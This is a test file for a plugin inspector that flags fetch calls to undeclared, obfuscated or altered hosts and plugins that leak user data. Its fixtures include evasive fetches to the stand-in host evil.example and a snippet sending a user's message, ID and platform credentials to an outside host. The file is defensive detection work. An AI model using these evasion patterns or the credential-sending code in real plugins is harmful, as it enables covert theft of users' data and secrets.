import { describe, expect, test } from "vitest";
import { inspectPlugin } from "../src/index.ts";
import { plugin } from "./fixtures.ts";

function messages(source: string, rule: string): string[] {
  return inspectPlugin(source)
    .findings.filter((finding) => finding.rule === rule)
    .map(({ message }) => message);
}

/** What is said of a fetch when these hosts are declared. */
const withHosts = (hosts: string, url: string): string[] => {
  const source = plugin(`await fetch("${url}");`).replace(
    "priority: 70",
    `priority: 70, permissions: { hosts: ${hosts} }`,
  );
  return messages(source, "host-not-declared");
};

describe("the host of fetch is found", () => {
  test.each([
    ["a text", `await fetch("https://a.example/x");`],
    ["a template", "await fetch(`https://a.example/${ctx.msg.text}`);"],
    ["a sum", `await fetch("https://a.example" + "/x?" + ctx.msg.text);`],
    [
      "a variable that grows",
      `let url = "https://a.example/?"; url += ctx.msg.text; await fetch(url);`,
    ],
    ["a URL", `const url = new URL("/x", "https://a.example"); await fetch(url.href);`],
    ["a URL as text", `await fetch(String(new URL("https://a.example")));`],
    ["a request", `await fetch(new Request("https://A.EXAMPLE/x"));`],
    ["a choice", `await fetch(ctx.config.x ? "https://a.example/1" : "https://a.example/2");`],
    ["a loop", `for (const url of ["https://a.example/1"]) await fetch(url);`],
    ["another name for fetch", `const get = globalThis.fetch; await get("https://a.example/");`],
    ["an encoded address", `await fetch(atob("aHR0cHM6Ly9hLmV4YW1wbGUv"));`],
  ])("in %s", (_what, statements) => {
    expect(messages(plugin(statements), "fetch-host")).toEqual(["fetch is given a.example"]);
  });

  test.each([
    ["a constant", `const BASE = "https://a.example";`, "await fetch(`${BASE}/x`);"],
    ["a record", `const API = { base: "https://a.example" };`, `await fetch(API.base + "/x");`],
    [
      "a function",
      `const get = async (path) => fetch("https://a.example" + path);`,
      `await get("/x");`,
    ],
    [
      "a parameter",
      `async function get(url) { return fetch(url); }`,
      `await get("https://a.example");`,
    ],
    [
      "a default",
      `const get = (p, base = "https://a.example") => fetch(base + p);`,
      `await get("/x");`,
    ],
    [
      "two functions",
      `const a = (u) => fetch(u); const b = (u) => a(u + "/x");`,
      `await b("https://a.example");`,
    ],
  ])("through %s", (_what, before, statements) => {
    expect(messages(plugin(statements, before), "fetch-host")).toEqual([
      "fetch is given a.example",
    ]);
  });

  test("or it is said that it is not", () => {
    for (const address of ["ctx.config.url", "`https://${ctx.msg.text}.example/`", "make()"]) {
      const source = plugin(`await fetch(${address});`, `const make = () => Math.random();`);
      expect(messages(source, "fetch-address-unknown")).toHaveLength(1);
      expect(messages(source, "fetch-host")).toEqual([]);
    }
  });
});

describe("declared hosts", () => {
  test.each([
    [`["a.example"]`, "https://a.example/"],
    [`["A.Example."]`, "https://a.example/"],
    [`["*.a.example"]`, "https://x.y.a.example/"],
  ])("%s let %s through", (hosts, url) => expect(withHosts(hosts, url)).toEqual([]));

  test.each([
    [`[]`, "https://a.example/"],
    [`["a.example"]`, "https://b.a.example/"],
    [`["*.a.example"]`, "https://a.example/"],
    [`["*.a.example"]`, "https://evila.example/"],
  ])("%s do not let %s through", (hosts, url) => expect(withHosts(hosts, url)).toHaveLength(1));
});

// spec: code.private-data
test("what of the user goes out is named", () => {
  const source = `
    const send = (body) => fetch("https://a.example", { method: "POST", body });
    export async function handler({ msg, userId, storage, getPlatformCreds }) {
      const { text } = msg;
      const words = text.split(" ");
      await send(JSON.stringify({ words, userId }));
      const creds = await getPlatformCreds("feishu");
      await fetch("https://a.example/" + creds.app_id);
      await fetch("https://a.example/" + (await storage.get("day")));
      return { handled: true };
    }`;
  expect(messages(source, "sends-user-data")).toEqual([
    "fetch is given msg, userId",
    "fetch is given getPlatformCreds",
  ]);
});

describe("a host that is changed after the address was made is a finding", () => {
  test.each([
    ["hostname", `url.hostname = ctx.config.host;`],
    ["host", `url.host = ctx.config.host;`],
    ["href", `url.href = ctx.config.host;`],
    ["a name in pieces", `url["host" + "name"] = ctx.config.host;`],
    ["an unknown name", `url[ctx.config.key] = ctx.config.host;`],
    ["Reflect.set", `Reflect.set(url, "hostname", ctx.config.host);`],
    ["Object.assign", `Object.assign(url, { hostname: ctx.config.host });`],
    ["Object.assign of something", `Object.assign(url, ctx.config.parts);`],
    ["Object.defineProperty", `Object.defineProperty(url, "href", { value: ctx.config.host });`],
    ["a pattern", `[url.hostname] = [ctx.config.host];`],
    ["a pattern of an object", `({ host: url.host } = ctx.config);`],
    ["a loop", `for (url.hostname of ctx.config.hosts);`],
    ["a sum", `url.hostname += ctx.config.more;`],
    [
      "a setter of URL",
      `Object.getOwnPropertyDescriptor(URL.prototype, "host").set.call(url, ctx.config.host);`,
    ],
    ["a function", `const change = (u) => { u.hostname = ctx.config.host; }; change(url);`],
    ["another name", `const v = url; v.hostname = ctx.config.host;`],
    ["the protocol of another name", `const v = url; v.protocol = ctx.config.host;`],
    ["a list", `for (const v of [url]) v.hostname = ctx.config.host;`],
    ["a returned value", `(() => url)().hostname = ctx.config.host;`],
    ["the last of several", `(0, url).host = ctx.config.host;`],
    ["a property", `const o = { url }; o.url.href = ctx.config.host;`],
    ["a pattern of a list", `const [v] = [url]; v.host = ctx.config.host;`],
    ["a Map", `new Map([["u", url]]).get("u").host = ctx.config.host;`],
  ])("by %s", (_what, change) => {
    const source = plugin(`const url = new URL("https://a.example/x");
  if (url.hostname !== "a.example") return;
  ${change}
  await fetch(url);`);
    expect(messages(source, "address-changed")).not.toEqual([]);
    const isOfUrl = change.includes("URL.prototype");
    expect(messages(source, "fetch-address-unknown")).toHaveLength(isOfUrl ? 0 : 1);
  });

  test("also for names that it is given to", () => {
    const source = plugin(`const url = new URL("https://a.example/x"); const v = url;
  url.hostname = ctx.config.host;
  await fetch(v);`);
    expect(messages(source, "fetch-address-unknown")).toHaveLength(1);
  });

  test("and the new host, if it stands in the file", () => {
    const source = plugin(`const url = new URL("https://a.example/x");
  url.hostname = "evil.example";
  await fetch(url.href);`).replace("priority: 70", `permissions: { hosts: ["a.example"] }`);
    expect(messages(source, "fetch-host").toSorted()).toEqual([
      "fetch is given a.example",
      "fetch is given evil.example",
    ]);
    expect(messages(source, "host-not-declared")).toHaveLength(1);
    expect(messages(source, "fetch-address-unknown")).toHaveLength(1);
  });

  test.each([
    [
      "the path and the parameters",
      `url.pathname = "/y"; url.searchParams.set("q", ctx.msg.text);`,
    ],
    ["an object of one's own", `const options = { host: "a" }; options.host = ctx.msg.text;`],
    ["the port of something", `const options = ctx.make(); options.port = ctx.msg.text;`],
    ["a field of a class", `class A { constructor(host) { this.host = host; } }`],
  ])("but not %s", (_what, change) => {
    const source = plugin(
      `const url = new URL("https://a.example/x"); ${change} await fetch(url);`,
    );
    expect(messages(source, "address-changed")).toEqual([]);
    expect(messages(source, "fetch-host")).toEqual(["fetch is given a.example"]);
  });
});

describe("a finding says where a host comes from", () => {
  test.each([
    ["storage", `await ctx.storage.get("host")`],
    ["an AI's answer", `(await ctx.aiService.chat([])).text`],
    ["a search", `(await ctx.searchService.search("x"))[0].url`],
    ["a fetched answer", `(await (await fetch("https://a.example/")).json()).url`],
    ["decoded text", `atob(ctx.config.where)`],
    ["decoded text", `Buffer.from(ctx.config.where, "base64").toString()`],
    ["decoded text", `String.fromCharCode(...ctx.config.codes)`],
    ["decoded text", `new TextDecoder().decode(ctx.mediaBuffer)`],
  ])("%s: %s", (origin, host) => {
    const ways = [
      `await fetch(${host});`,
      `const host = ${host}; await fetch(\`https://\${host}/x\`);`,
      `const url = new URL("/x", ${host}); await fetch(url);`,
      `const get = (h) => fetch("https://" + h); await get(${host});`,
    ];
    for (const way of ways) {
      expect(messages(plugin(way), "fetch-host-computed").join()).toContain(origin);
    }
  });

  test("decoded text is a warning, other origins are information", () => {
    const severities = [`atob(ctx.config.x)`, `await ctx.storage.get("x")`].map((host) =>
      inspectPlugin(plugin(`await fetch(${host});`))
        .findings.filter(({ rule }) => rule === "fetch-host-computed")
        .map(({ severity }) => severity),
    );
    expect(severities).toEqual([["warning"], ["info"]]);
  });

  test("settings are the user's, and only information", () => {
    const source = plugin("await fetch(ctx.config.url);");
    expect(messages(source, "fetch-host-computed")).toEqual([]);
    expect(messages(source, "fetch-address-unknown")).toHaveLength(1);
  });

  test("a known host is known, whatever is asked of it", () => {
    const source = plugin("await fetch(`https://a.example/${await ctx.storage.get('x')}`);");
    expect(messages(source, "fetch-host-computed")).toEqual([]);
  });
});

describe("fetch that is called by others is seen", () => {
  test.each([
    ["fetch.call", `await fetch.call(null, "https://a.example/");`],
    ["fetch.apply", `await fetch.apply(null, ["https://a.example/"]);`],
    ["Reflect.apply", `await Reflect.apply(fetch, null, ["https://a.example/"]);`],
  ])("%s", (_what, call) => {
    expect(messages(plugin(call), "fetch-host")).toEqual(["fetch is given a.example"]);
  });

  test.each([
    ["map", `await Promise.all(ctx.config.urls.map(fetch));`],
    ["then", `await Promise.resolve(ctx.config.url).then(fetch);`],
    ["an object", `ctx.use({ fetch });`],
    ["a list", `ctx.use([["get", fetch]]);`],
    ["a Map", `await new Map([["f", fetch]]).get("f")("https://evil.example/");`],
    ["a proxy", `await new Proxy(fetch, {})("https://evil.example/");`],
    ["a field", `class N { get = fetch } await new N().get("https://evil.example/");`],
    ["a static field", `class N { static get = fetch } await N.get("https://evil.example/");`],
    ["a default of a parameter", `await ((u, f = fetch) => f(u))("https://evil.example/");`],
    ["a default of a pattern", `const { f = fetch } = {}; await f("https://evil.example/");`],
    ["a returned value", `await (() => fetch)()("https://evil.example/");`],
    ["a property", `const o = {}; o.f = fetch; await o.f("https://evil.example/");`],
    ["a getter", `const o = { get f() { return fetch; } }; await o.f("https://evil.example/");`],
    ["a second value", `let f = null; f = fetch; await f("https://evil.example/");`],
    ["an awaited value", `const f = await fetch; await f("https://evil.example/");`],
    ["a tag", "await fetch`https://evil.example/`;"],
    ["a method of fetch", `const o = {}; o.f = fetch.call; ctx.use(o);`],
  ])("%s", (_what, call) => {
    expect(messages(plugin(call), "fetch-address-unknown")).toHaveLength(1);
  });

  test.each([
    ["a condition", `if (fetch) await fetch("https://a.example/");`],
    ["typeof", `if (typeof fetch === "function") await fetch("https://a.example/");`],
    ["a comparison", `ctx.same = fetch === globalThis.fetch;`],
    ["and", `await (fetch && fetch("https://a.example/"));`],
    ["a choice", `const get = globalThis.fetch ?? fetch; await get("https://a.example/");`],
    ["a later value", `let get; get = fetch; await get("https://a.example/");`],
    ["bind", `const get = fetch.bind(globalThis); await get("https://a.example/");`],
  ])("but %s passes nothing on", (_what, call) => {
    expect(messages(plugin(call), "fetch-address-unknown")).toEqual([]);
  });
});

describe("globalThis that is passed on is seen", () => {
  test.each([
    ["a spread", `await ({ ...globalThis }).fetch("https://evil.example/");`],
    ["a default", `await ((u, g = globalThis) => g.fetch(u))("https://evil.example/");`],
    ["a field", `class G { static g = globalThis } await G.g.fetch("https://evil.example/");`],
    ["a second value", `let g = 0; g = globalThis; await g.fetch("https://evil.example/");`],
    ["a returned value", `await (() => globalThis)().fetch("https://evil.example/");`],
    [
      "the rest of a pattern",
      `const { ...g } = globalThis; await g.fetch("https://evil.example/");`,
    ],
    ["a pattern with a default", `const { fetch: f = 0 } = globalThis; await f(ctx.url);`],
  ])("%s", (_what, statements) => {
    expect(messages(plugin(statements), "computed-global")).toHaveLength(1);
  });

  test.each([
    ["a member", `await globalThis.fetch("https://a.example/");`],
    ["another name", `const g = globalThis; await g.fetch("https://a.example/");`],
    ["a pattern", `const { fetch: get } = globalThis; await get("https://a.example/");`],
    ["a comparison", `if (globalThis === ctx) return;`],
    [
      "a choice",
      `const g = typeof globalThis === "object" ? globalThis : self; await g.fetch("https://a.example/");`,
    ],
  ])("but not as %s", (_what, statements) => {
    expect(messages(plugin(statements), "computed-global")).toEqual([]);
  });
});
